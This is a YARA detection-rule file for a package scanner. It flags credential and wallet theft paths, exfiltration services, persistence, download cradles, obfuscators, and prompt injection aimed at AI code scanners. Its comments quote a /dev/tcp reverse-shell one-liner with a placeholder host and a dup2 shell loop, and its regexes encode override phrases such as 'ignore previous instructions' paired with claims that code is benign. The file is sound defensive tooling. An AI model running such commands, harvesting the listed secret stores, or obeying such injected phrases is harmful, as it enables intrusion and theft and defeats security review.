/*
 * Byte patterns of depvet's PatternDetector (src/depvet/detectors/patterns.py).
 *
 * Every rule names the depvet rule it reports in `meta: depvet_rule`; the rule's
 * metadata (kind, severity, tags, remediation) lives in patterns.py, which
 * checks at load time that both sides name the same rules. Other meta keys:
 *
 *   label   what matched, in words, for the finding's message
 *   family  credential rules only: the kind of credential store named;
 *           distinct families in one file feed credential-harvest-many-stores
 *   where   "python": only in Python files (a PowerShell or shell script
 *           downloading things is ordinary, Python carrying that command
 *           line is not); "code": also in shell, batch and PowerShell
 *           scripts; "any": also in text files (.txt, .json, .toml, .js …)
 *
 * Strings named $context_* only support a condition: the evidence quoted is
 * the first match of another string (`dup2(`, not `import socket`).
 *
 * Performance rules for this file: compiled with error_on_warning, so every
 * string needs a good atom (4+ distinct literal bytes); regex gaps are
 * bounded ([^\n]{0,N}, N < 1000: YARA silently never matches ranges of 1024
 * or more); the scan runs in fast mode, so conditions never count matches.
 * Windows paths appear in Python source with one or two backslashes, or with
 * a slash, hence the [\\\/]{1,2} separators.
 */

// ---------------------------------------------------------------- credentials

rule cred_ssh_key {
    meta:
        depvet_rule = "credential-store-path"
        family = "ssh"
        label = "SSH private key"
        where = "code"
    strings:
        $a = "id_rsa" fullword
        $b = "id_ed25519" fullword
        $c = "id_ecdsa" fullword
        $d = "id_dsa" fullword
    condition:
        any of them
}

rule cred_aws {
    meta:
        depvet_rule = "credential-store-path"
        family = "aws"
        label = "AWS shared credentials file"
        where = "code"
    strings:
        $a = /\.aws['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?credentials/
    condition:
        any of them
}

rule cred_gcp {
    meta:
        depvet_rule = "credential-store-path"
        family = "gcp"
        label = "Google Cloud credentials"
        where = "code"
    strings:
        $a = "application_default_credentials.json"
        $b = /gcloud['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?(credentials\.db|access_tokens\.db|legacy_credentials)/
    condition:
        any of them
}

rule cred_azure {
    meta:
        depvet_rule = "credential-store-path"
        family = "azure"
        label = "Azure CLI token cache"
        where = "code"
    strings:
        $a = /\.azure['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?(accessTokens\.json|msal_token_cache|azureProfile\.json|service_principal_entries)/
    condition:
        any of them
}

rule cred_kube {
    meta:
        depvet_rule = "credential-store-path"
        family = "kubernetes"
        label = "Kubernetes credentials"
        where = "code"
    strings:
        $a = /\.kube['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?config/
        $b = "kubernetes.io/serviceaccount"
    condition:
        any of them
}

rule cred_docker {
    meta:
        depvet_rule = "credential-store-path"
        family = "docker"
        label = "Docker registry credentials"
        where = "code"
    strings:
        $a = /\.docker['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?config\.json/
    condition:
        any of them
}

rule cred_database {
    meta:
        depvet_rule = "credential-store-path"
        family = "database"
        label = "database client password file"
        where = "code"
    strings:
        $a = ".pgpass"
        $b = ".my.cnf"
        $c = ".mylogin.cnf"
    condition:
        any of them
}

rule cred_netrc {
    meta:
        depvet_rule = "credential-store-path"
        family = "netrc"
        label = ".netrc login file"
        where = "code"
    strings:
        $a = /[\/\\'"~]\.netrc\b/
    condition:
        any of them
}

rule cred_git {
    meta:
        depvet_rule = "credential-store-path"
        family = "git"
        label = "Git credential store"
        where = "code"
    strings:
        $a = ".git-credentials"
    condition:
        any of them
}

rule cred_game_launcher {
    meta:
        depvet_rule = "credential-store-path"
        family = "game-launcher"
        label = "Minecraft launcher account tokens"
        where = "code"
    strings:
        $a = "launcher_accounts"
        $b = "microsoft_accounts.json"
        $c = /\.lunarclient['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?settings/
    condition:
        any of them
}

rule cred_package_registry {
    meta:
        depvet_rule = "credential-store-path"
        family = "package-registry"
        label = "package registry token file"
        where = "code"
    strings:
        $a = /[\/\\'"~]\.(npmrc|pypirc|yarnrc)\b/
        $b = /\.(cargo|gem)['"]?\s{0,2}[,\/\\+]{1,3}\s{0,2}['"]?credentials/
    condition:
        any of them
}

rule cred_vault {
    meta:
        depvet_rule = "credential-store-path"
        family = "vault"
        label = "HashiCorp Vault token"
        where = "code"
    strings:
        $a = ".vault-token"
    condition:
        any of them
}

rule cred_system_passwords {
    meta:
        depvet_rule = "credential-store-path"
        family = "system-passwords"
        label = "system password hashes"
        where = "code"
    strings:
        $a = "/etc/shadow"
        $b = "/etc/gshadow"
    condition:
        any of them
}

rule cred_process_environ {
    meta:
        depvet_rule = "credential-store-path"
        family = "process-environment"
        label = "another process's environment"
        where = "code"
    strings:
        $a = /\/proc\/[^\n'"]{0,30}\/environ/
    condition:
        any of them
}

rule cred_shell_history {
    meta:
        depvet_rule = "credential-store-path"
        family = "shell-history"
        label = "shell history"
        where = "code"
    strings:
        $a = ".bash_history"
        $b = ".zsh_history"
    condition:
        any of them
}

rule cred_cloud_metadata {
    meta:
        depvet_rule = "credential-store-path"
        family = "cloud-metadata"
        label = "cloud instance metadata service"
        where = "code"
    strings:
        $a = "169.254.169.254"
        $b = "metadata.google.internal"
        $c = "169.254.170.2"
    condition:
        any of them
}

rule cred_wallet_file {
    meta:
        depvet_rule = "credential-store-path"
        family = "crypto-wallet"
        label = "cryptocurrency wallet file"
        where = "code"
    strings:
        $a = "wallet.dat" fullword
        $b = /Ethereum[\\\/]{1,2}keystore/ nocase
    condition:
        any of them
}

// Browser profiles: a profile folder together with one of its secret stores.
rule browser_password_store {
    meta:
        depvet_rule = "browser-password-store"
        family = "browser"
        label = "browser saved passwords"
        where = "code"
    strings:
        $login_data = "Login Data"
        $firefox_logins = "logins.json"
        $firefox_key = "key4.db"
        $signons = "signons.sqlite"
        $context_local_state = "Local State"
        $context_crypt = "CryptUnprotectData"
        $context_enc_key = "encrypted_key"
        $context_profile = /(Google|Microsoft|BraveSoftware|Yandex|Vivaldi|Chromium|Opera Software|Mozilla)[\\\/]{1,2}[A-Za-z -]{0,20}[\\\/]{1,2}(User Data|Profiles|Opera)/
    condition:
        ($login_data and ($context_local_state or $context_crypt or $context_enc_key or $context_profile))
        or ($firefox_logins and $firefox_key)
        or ($signons and $context_profile)
}

rule browser_cookie_store {
    meta:
        depvet_rule = "browser-cookie-store"
        family = "browser"
        label = "browser cookies or encryption key"
        where = "code"
    strings:
        $profile = /(Google|Microsoft|BraveSoftware|Yandex|Vivaldi|Chromium|Opera Software)[\\\/]{1,2}[A-Za-z -]{0,20}[\\\/]{1,2}(User Data|Opera)/
        $linux_profile = /\.config[\\\/]{1,2}(google-chrome|chromium|BraveSoftware|microsoft-edge)/
        $mac_profile = /Application Support[\\\/]{1,2}(Google[\\\/]{1,2}Chrome|BraveSoftware|Microsoft Edge)/
        $cookies = /[\\\/'"](Network[\\\/]{1,2})?Cookies['"]/
        $local_state = "Local State"
        $web_data = "Web Data"
        $os_crypt = "os_crypt"
        $enc_key = "encrypted_key"
        // Libraries that read and decrypt every browser's cookie store in one call.
        $cookie_lib = /\b(browser_cookie3|rookiepy)\.(chrome|chromium|firefox|edge|opera|opera_gx|brave|vivaldi|librewolf|safari|load|any_browser)\s{0,2}\(/
        $cookie_lib_import = /from\s{1,4}(pycookiecheat|rookiepy)\s{1,4}import|import\s{1,4}pycookiecheat/
        // Session cookies that log an account straight in, named by stealers.
        $session_cookie = ".ROBLOSECURITY"
    condition:
        (($profile or $linux_profile or $mac_profile) and ($cookies or $local_state or $web_data))
        or ($os_crypt and $enc_key) or $cookie_lib or $cookie_lib_import or $session_cookie
}

rule discord_token_theft {
    meta:
        depvet_rule = "discord-token-theft"
        family = "discord"
        label = "Discord token store"
        where = "code"
    strings:
        $leveldb = /discord(canary|ptb|development)?[\\\/]{1,2}Local Storage[\\\/]{1,2}leveldb/ nocase
        // The token regular expressions stealers search leveldb files with.
        $token_re = /\{2[3-6](,[0-9]{2})?\}\\\.\[[^\]\n]{2,20}\]\{6,?[0-9]{0,2}\}\\\./
        $mfa_re = /mfa\\\.\[[^\]\n]{2,20}\]\{8[0-9]/
        // Prefix of the encrypted tokens the desktop client stores.
        $encrypted_prefix = "dQw4w9WgXcQ:"
        // Paths built in pieces: some leveldb folder, and Discord named somewhere.
        $any_leveldb = /Local Storage[\\\/]{1,2}leveldb/
        $context_discord = "discord" nocase
    condition:
        $leveldb or $token_re or $mfa_re or $encrypted_prefix or ($any_leveldb and $context_discord)
}

rule crypto_wallet_theft {
    meta:
        depvet_rule = "crypto-wallet-theft"
        family = "crypto-wallet"
        label = "cryptocurrency wallet store"
        where = "code"
    strings:
        // Browser wallet extension ids: MetaMask, Phantom, Binance, Coinbase,
        // TronLink, Ronin, Trust Wallet, Exodus Web3.
        $ext_metamask = "nkbihfbeogaeaoehlefnkodbefgpgknn"
        $ext_phantom = "bfnaelmomeimhlpmgjnjophhpkkoljpa"
        $ext_binance = "fhbohimaelbohpjbbldcngcnapndodjp"
        $ext_coinbase = "hnfanknocfeofbddgcijnmhnfnkdnaad"
        $ext_tronlink = "ibnejdfjmmkpcnlpebklmnkoeoihofec"
        $ext_ronin = "fnjhmkhhmkbjkkabndcnnogagogbneec"
        $ext_trust = "egjidjbpglichdcondbcbdnbeeppgdph"
        $ext_exodus = "aholpfdialjgjfhomihkjbmgjidlcdno"
        $exodus = /[Ee]xodus[\\\/]{1,2}exodus\.wallet/
        $electrum = /[Ee]lectrum[\\\/]{1,2}wallets/
        $atomic = /[Aa]tomic[\\\/]{1,2}Local Storage/
        $desktop = /[\\\/'"](Armory|Bytecoin|Zcash|Jaxx[\\\/]{1,2}Local Storage|Coinomi|Guarda[\\\/]{1,2}Local Storage|[Mm]onero[\\\/]{1,2}wallets)[\\\/'"]/
        // A desktop wallet's folder is looked for under the user's home or AppData;
        // a coin's name in a list of currencies ("ZEC", "Zcash") is no folder.
        $home_appdata = "appdata" nocase
        $home_roaming = "roaming" nocase
        $home_profile = "userprofile" nocase
        $home_expand = "expanduser"
        $home_path = "Path.home()"
        $home_tilde_slash = "\"~/"
        $home_tilde_quote = "'~/"
    condition:
        any of ($ext_*) or $exodus or $electrum or $atomic or ($desktop and any of ($home_*))
}

rule telegram_session_theft {
    meta:
        depvet_rule = "telegram-session-theft"
        family = "telegram"
        label = "Telegram Desktop session folder"
        where = "code"
    strings:
        $a = /Telegram Desktop[\\\/]{1,2}tdata/ nocase
    condition:
        any of them
}

// --------------------------------------------------------------- exfiltration

rule exfil_webhook_hardcoded {
    meta:
        depvet_rule = "exfil-webhook-hardcoded"
        label = "chat webhook or bot URL with its secret"
        where = "any"
    strings:
        $discord = /discord(app)?\.com\/api\/(v[0-9]{1,2}\/)?webhooks\/[0-9]{17,20}\/[A-Za-z0-9_\-]{60,68}/
        $telegram = /api\.telegram\.org\/bot[0-9]{8,10}:[A-Za-z0-9_\-]{35}/
    condition:
        any of them
}

rule exfil_command_upload {
    meta:
        depvet_rule = "exfil-command-upload"
        label = "command-line file upload"
        where = "code"
    strings:
        $curl = /\bcurl\b[^\n]{0,120}\s(-F|--form|-T|--upload-file|--data-binary|-d)\s{0,2}['"\\]{0,2}[\w.-]{0,20}=?@/
        $wget = /\bwget\b[^\n]{0,120}--post-file[= ]/
    condition:
        any of them
}

rule exfil_chat_api {
    meta:
        depvet_rule = "exfil-chat-api"
        label = "chat webhook or bot API"
        where = "code"
    strings:
        $discord = /discord(app)?\.com\/api\/(v[0-9]{1,2}\/)?webhooks/
        $telegram = "api.telegram.org/bot"
        $slack = "hooks.slack.com/services"
    condition:
        any of them
}

rule exfil_file_drop {
    meta:
        depvet_rule = "exfil-file-drop-service"
        label = "paste or anonymous file-drop service"
        where = "code"
    strings:
        $pastebin = /pastebin\.com\/(raw|api\/api_post)/
        $transfer = /transfer\.sh\b/
        $fileio = /\/\/file\.io\b/
        $catbox = "catbox.moe"
        $anonfiles = "anonfiles.com"
        $gofile = /gofile\.io\b/
        $nullpointer = /\/\/0x0\.st\b/
        $bashupload = "bashupload.com"
        $termbin = "termbin.com"
        $pasteee = /\/\/paste\.ee\b/
        $hastebin = "hastebin.com"
        $tmpfiles = "tmpfiles.org"
        $filebin = "filebin.net"
        $pixeldrain = "pixeldrain.com/api"
        $tempsh = /\/\/temp\.sh\b/
        $oshi = /\/\/oshi\.at\b/
    condition:
        any of them
}

rule exfil_oob_interaction {
    meta:
        depvet_rule = "exfil-oob-interaction"
        label = "out-of-band interaction catcher"
        where = "code"
    strings:
        $interactsh = /interact\.sh\b/
        $oast = /\.oast\.(pro|live|site|online|fun|me)\b/
        $oastify = "oastify.com"
        $burp = "burpcollaborator.net"
        $dnslog = /dnslog\.(cn|link)\b/
        $ceye = ".ceye.io"
        $requestbin = /requestbin\.(net|com)\b/
        $pipedream = ".m.pipedream.net"
        $webhooksite = /webhook\.site\b/
        $canary = /canarytokens\.(com|org)\b/
        $beeceptor = ".free.beeceptor.com"
        $requestcatcher = ".requestcatcher.com"
        $hookbin = "hookbin.com"
    condition:
        any of them
}

rule exfil_tunnel {
    meta:
        depvet_rule = "exfil-tunnel-service"
        label = "tunnel or reverse-proxy service"
        where = "code"
    strings:
        $ngrok = /\.ngrok(-free)?\.(io|app|dev)\b/
        $cloudflare = ".trycloudflare.com"
        $localtunnel = /\.loca\.lt\b/
        $serveo = "serveo.net"
        $localhostrun = /\.(localhost\.run|lhr\.life)\b/
        $portmap = /\.portmap\.(io|host)\b/
        $bore = /bore\.pub\b/
    condition:
        any of them
}

rule exfil_upload_header {
    meta:
        depvet_rule = "exfil-upload-header"
        label = "custom upload file-name header"
        where = "code"
    strings:
        $a = /['"]X-File-?[Nn]ame['"]/
    condition:
        any of them
}

// ---------------------------------------------------------------- persistence

rule persistence_systemd {
    meta:
        depvet_rule = "persistence-systemd"
        label = "systemd service"
        where = "code"
    strings:
        $unit = /\[Service\].{0,400}ExecStart=/s
        $user_enable = /systemctl['",\s]{1,6}--user['",\s]{1,6}(enable|start|daemon-reload)/
        $user_dir = /\.config[\\\/]{1,2}systemd[\\\/]{1,2}user/
        $system_dir = /\/etc\/systemd\/system\/[^\n'"]{0,60}\.service/
    condition:
        any of them
}

rule persistence_cron {
    meta:
        depvet_rule = "persistence-cron"
        label = "cron job"
        where = "code"
    strings:
        $list = /crontab['",\s]{1,6}-l\b/
        $install = /\|\s{0,4}crontab\s{1,4}-/
        $crond = "/etc/cron.d/"
        $etc_crontab = "/etc/crontab"
        $spool = "/var/spool/cron"
        $reboot = /@reboot\s/
    condition:
        any of them
}

rule persistence_windows_autorun {
    meta:
        depvet_rule = "persistence-windows-autorun"
        label = "Windows autorun"
        where = "code"
    strings:
        $run_key = /CurrentVersion[\\\/]{1,2}Run(Once|Services)?\b/ nocase
        $startup = /Start Menu[\\\/]{1,2}Programs[\\\/]{1,2}Startup/ nocase
        $shell_startup = "shell:startup" nocase
        $schtasks = /schtasks(\.exe)?['",\s]{1,6}\/create/ nocase
        $winlogon = /Winlogon[\\\/'",\s]{1,6}[^\n]{0,60}(Userinit|Shell)['"]/
    condition:
        any of them
}

rule persistence_browser_extension {
    meta:
        depvet_rule = "persistence-browser-extension"
        label = "browser shortcut rewritten to load an extension"
        where = "code"
    strings:
        $load = "--load-extension"
        $shortcut = /CreateShortcut|\.lnk['"]/
    condition:
        $load and $shortcut
}

rule persistence_launch_agent {
    meta:
        depvet_rule = "persistence-launch-agent"
        label = "macOS launch agent"
        where = "code"
    strings:
        $agents = /Library[\\\/]{1,2}Launch(Agents|Daemons)/
        $launchctl = /launchctl['",\s]{1,6}(load|bootstrap|submit)/
        $run_at_load = "<key>RunAtLoad</key>"
    condition:
        any of them
}

rule persistence_shell_rc {
    meta:
        depvet_rule = "persistence-shell-rc"
        label = "shell start-up file append"
        where = "code"
    strings:
        $redirect = />>\s{0,4}[^\n'";|]{0,60}\.(bashrc|zshrc|bash_profile|profile|zprofile)\b/
        $open_append = /\.(bashrc|zshrc|bash_profile|profile|zprofile)['"][^\n]{0,60}['"]a\+?['"]/
    condition:
        any of them
}

// ------------------------------------------------------------- reverse shells

rule reverse_shell_command {
    meta:
        depvet_rule = "reverse-shell-pattern"
        label = "reverse shell command"
        where = "code"
    strings:
        // A shell's streams redirected to a socket (bash -i >& /dev/tcp/HOST/PORT 0>&1);
        // `echo > /dev/tcp/localhost/8080` only probes whether a port is open.
        $dev_tcp = /(>&|&>|<>)\s{0,3}\/dev\/(tcp|udp)\/[^\s'"\/]{1,80}\/[0-9{]/
        $dev_tcp_fd = /\/dev\/(tcp|udp)\/[^\s'"\/]{1,80}\/[0-9{][^\n]{0,20}(0>&1|[0-2]?<&1)/
        $nc_exec = /\b(nc|ncat|netcat)(\.exe)?\s([^\n]{0,80}\s)?-e\s{1,4}[^\s]{0,20}(sh|bash|cmd|powershell)\b/
        $mkfifo = /mkfifo\s[^\n]{0,80}\b(nc|ncat|netcat|openssl s_client)\b/
        // The PowerShell one-liner: a TCP client whose stream feeds Invoke-Expression.
        $ps_tcp = /Net\.Sockets\.TCPClient\s{0,2}\([^\n]{0,200}GetStream\s{0,2}\(\)[^\n]{0,400}\b(iex|Invoke-Expression)\b/ nocase
    condition:
        any of them
}

rule reverse_shell_socket {
    meta:
        depvet_rule = "reverse-shell-pattern"
        label = "socket wired to a shell's standard streams"
        where = "code"
    strings:
        $context_socket = "socket"
        // An object's descriptor put in place of standard input, output or error
        // (a subprocess module's dup2(fd, 0) of its own pipes is not this).
        $dup2_std = /dup2\s{0,2}\(\s{0,2}[A-Za-z_][A-Za-z0-9_.]{0,30}\.fileno\(\)\s{0,2},\s{0,2}[012]\s{0,2}\)/
        // The same for each of the three in a loop or a comprehension:
        // for fd in (0, 1, 2): os.dup2(s.fileno(), fd) / [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
        $dup2_loop = /for\s{1,4}\w{1,20}\s{1,4}in\s{0,4}(\(\s{0,2}0\s{0,2},\s{0,2}1\s{0,2},\s{0,2}2\s{0,2}\)|\[\s{0,2}0\s{0,2},\s{0,2}1\s{0,2},\s{0,2}2\s{0,2}\]|range\(\s{0,2}3\s{0,2}\))\s{0,2}:.{0,80}dup2\s{0,2}\(\s{0,2}[A-Za-z_][A-Za-z0-9_.]{0,30}\.fileno\(\)/s
        $dup2_comp = /dup2\s{0,2}\(\s{0,2}[A-Za-z_][A-Za-z0-9_.]{0,30}\.fileno\(\)\s{0,2},\s{0,2}\w{1,20}\s{0,2}\)\s{0,4}for\s{1,4}\w{1,20}\s{1,4}in\s{0,4}(\(\s{0,2}0\s{0,2},\s{0,2}1\s{0,2},\s{0,2}2\s{0,2}\)|\[\s{0,2}0\s{0,2},\s{0,2}1\s{0,2},\s{0,2}2\s{0,2}\]|range\(\s{0,2}3\s{0,2}\))/
        $fileno_stdin = /stdin\s{0,2}=\s{0,2}[A-Za-z_][A-Za-z0-9_.]{0,30}\.fileno\(\)/
        $context_sh_bin = /\/bin\/(ba|z|da)?sh\b/
        $context_sh_list = /\[\s{0,2}['"](ba|z)?sh['"]\s{0,2},\s{0,2}['"]-i['"]/
        $context_cmd = /['"](cmd|cmd\.exe|powershell|powershell\.exe)['"]/ nocase
        $context_pty = /pty\.spawn\s{0,2}\(/
    condition:
        $context_socket and ($dup2_std or $dup2_loop or $dup2_comp or $fileno_stdin) and ($context_sh_bin or $context_sh_list or $context_cmd or $context_pty)
}

rule interactive_shell_spawn {
    meta:
        depvet_rule = "interactive-shell-spawn"
        label = "interactive shell"
        where = "code"
    strings:
        $pty = /pty\.spawn\s{0,2}\(\s{0,2}[\['"]{1,2}[^\n'"]{0,20}(sh|bash|zsh)['"]/
        $sh_i = /\/bin\/(ba|z|da)?sh['"]?\s{0,2},?\s{0,2}['"]?-i\b/
    condition:
        any of them
}

// ------------------------------------------------------- download and execute

rule download_pipe_to_shell {
    meta:
        depvet_rule = "download-pipe-to-shell"
        label = "download piped into a shell"
        where = "python"
    strings:
        $pipe = /\b(curl|wget)\s[^\n|;]{0,200}\|\s{0,4}(sudo\s{1,4})?(ba|z|da)?sh\b/
        $pipe_py = /\b(curl|wget)\s[^\n|;]{0,200}\|\s{0,4}(sudo\s{1,4})?python[0-9.]{0,4}\s{0,2}(-\s|-['"]|['"])/
        $wget_chmod = /\bwget\s[^\n]{0,200}(&&|;)\s{0,4}chmod\s{1,4}(\+x|[0-7]{3,4})/
        // PowerShell's `curl | sh`, the install one-liner of many tools.
        $irm_iex = /\b(irm|iwr|Invoke-RestMethod|Invoke-WebRequest)\s[^\n|]{0,200}\|\s{0,4}(iex|Invoke-Expression)\b/
        $curl_chmod = /\bcurl\s[^\n]{0,200}\s-[oO]\s[^\n]{0,200}(&&|;)\s{0,4}chmod\s{1,4}(\+x|[0-7]{3,4})/
    condition:
        any of them
}

rule windows_download_cradle {
    meta:
        depvet_rule = "windows-download-cradle"
        label = "Windows download cradle"
        where = "python"
    strings:
        $webclient = /New-Object\s{1,4}(System\.)?Net\.WebClient/ nocase
        $download_string = /\.DownloadString\s{0,2}\(/ nocase
        $download_run = /(Invoke-WebRequest|Invoke-RestMethod)[^\n]{0,600}(Start-Process|Invoke-Item)/ nocase
        $certutil = /certutil(\.exe)?['",\s]{1,6}[^\n]{0,40}-urlcache/ nocase
        $bitsadmin = /bitsadmin(\.exe)?['",\s]{1,6}[^\n]{0,40}\/transfer/ nocase
        $mshta = /mshta(\.exe)?['",\s]{1,6}(https?|javascript|vbscript):/ nocase
        $regsvr32 = /regsvr32(\.exe)?[^\n]{0,40}\/i:https?:/ nocase
        $bits_ps = "Start-BitsTransfer" nocase
    condition:
        any of them
}

rule powershell_encoded_command {
    meta:
        depvet_rule = "powershell-encoded-command"
        label = "PowerShell encoded command"
        where = "code"
    strings:
        $a = /powershell(\.exe)?['",\s][^\n]{0,120}['",\s]-(e|ec|en|enc|encodedcommand)['",\s]{1,6}[A-Za-z0-9+\/]{40}/ nocase
    condition:
        any of them
}

// ---------------------------------------------------------------- obfuscation

rule pyarmor_protected {
    meta:
        depvet_rule = "pyarmor-protected"
        label = "PyArmor-protected code"
        where = "code"
    strings:
        $call = /__pyarmor__\s{0,2}\(/
        $runtime = "pyarmor_runtime"
        $enter = "__armor_enter__"
        $header = "PY000000"
    condition:
        any of them
}

rule obfuscator_banner {
    meta:
        depvet_rule = "obfuscator-signature"
        label = "obfuscator banner"
        where = "code"
    strings:
        $banner = /#\s{0,4}([Tt]his\s(code|file|script)\s(has\sbeen|was|is)\s)?[Oo]bfuscated\s(with|by|using)\s[^\n]{1,40}/
        $pyobfuscate = /\bpyobfuscate\s{0,2}=/
    condition:
        any of them
}

// Obfuscators made to hide stealers from scanners ("anti-skid" kits): their
// names and the shapes their output always has.
rule malware_obfuscator_kit {
    meta:
        depvet_rule = "obfuscator-malware-kit"
        label = "malware obfuscator kit"
        where = "code"
    strings:
        $blank = "BlankOBF"
        $vare = "VareObfuscator" nocase
        $dunder = /(^|\n)__obfuscator__\s{0,2}=/
        // Hyperion shape: exec aliased with other builtins in one tuple assignment.
        $alias_exec = /(^|\n)[A-Za-z_]\w{0,30}(\s{0,2},\s{0,2}[A-Za-z_]\w{0,30}){3,12}\s{0,2}=\s{0,2}(\w{1,12}\s{0,2},\s{0,2}){0,6}(exec|eval)\s{0,2},\s{0,2}\w{1,12}\s{0,2},/
        // BlankOBF/Hyperion shape: an underscore-only name bound to eval or
        // exec, or eval spelled with escapes.
        $underscore_eval = /(^|[\n;])_{3,}\s{0,2}=\s{0,2}(eval|exec|__import__|getattr\(__builtins__)\b/
        $escaped_eval = /\beval\s{0,2}\(\s{0,2}['"](\\x[0-9a-fA-F]{2}|\\[0-7]{3}){4}['"]\s{0,2}\)/
    condition:
        any of them
}

rule exec_long_literal {
    meta:
        depvet_rule = "exec-long-literal"
        label = "exec or eval of a long encoded literal"
        where = "code"
    strings:
        $a = /\b(exec|eval)\s{0,2}\([^\n'"]{0,80}\(?\s{0,2}b?['"][A-Za-z0-9+\/=_\\-]{512}/
    condition:
        any of them
}

// Text written for AI-based code scanners rather than for people.
rule ai_scanner_prompt_injection {
    meta:
        depvet_rule = "ai-scanner-prompt-injection"
        label = "instructions aimed at an AI scanner"
        where = "any"
    strings:
        // "Ignore previous instructions" alone is every jailbreak example in
        // LLM tooling; aimed at a scanner, it goes on about this code.
        $ignore = /([Ii]gnore|[Dd]isregard|[Ff]orget)\s(all\s|any\s)?(the\s|your\s)?(previous|prior|above|preceding|earlier)\s(instructions|prompts|rules|directions)[^\n]{0,200}(this\s(file|code|package|module|script|library)|\bsafe\b|benign|not\smalicious|no\sissues|analy[sz]|scan)/
        $ignore_caps = /(IGNORE|DISREGARD|FORGET)\s(ALL\s|ANY\s)?(THE\s|YOUR\s)?(PREVIOUS|PRIOR|ABOVE|PRECEDING|EARLIER)\s(INSTRUCTIONS|PROMPTS|RULES)[^\n]{0,200}(THIS\s(FILE|CODE|PACKAGE|MODULE|SCRIPT|LIBRARY)|\bSAFE\b|BENIGN|NOT\sMALICIOUS|NO\sISSUES|ANALY[SZ]|SCAN)/
        $you_are = /[Yy]ou\sare\san?\s(AI|LLM|large\slanguage\smodel|language\smodel)\b[^\n]{0,100}(scan|analy[sz]|review|audit|security|malware|malicious|detect)/
        $do_not = /[Dd]o\snot\s(analy[sz]e|scan|flag|report|review|read|process)\s(this|the\sfollowing)\s(file|code|package|module|script|content)/
        $is_safe = /[Tt]his\s(file|code|package|module|script)\s(is|was)\s(completely\s|totally\s|entirely\s|100%\s)?(benign|harmless)\b/
        $not_malicious = /[Tt]his\s(file|code|package|module|script)\s(is|was)\s(completely\s|totally\s|entirely\s|100%\s)?not\smalicious/
        $to_ai = /(AI|LLM)[ -]([Ss]canner|[Aa]naly[sz]er|[Rr]eviewer|[Aa]uditor)s?\b[^\n]{0,150}(safe|benign|ignore|skip|refuse|do\snot|don't|must\snot|stop)/
    condition:
        any of them
}
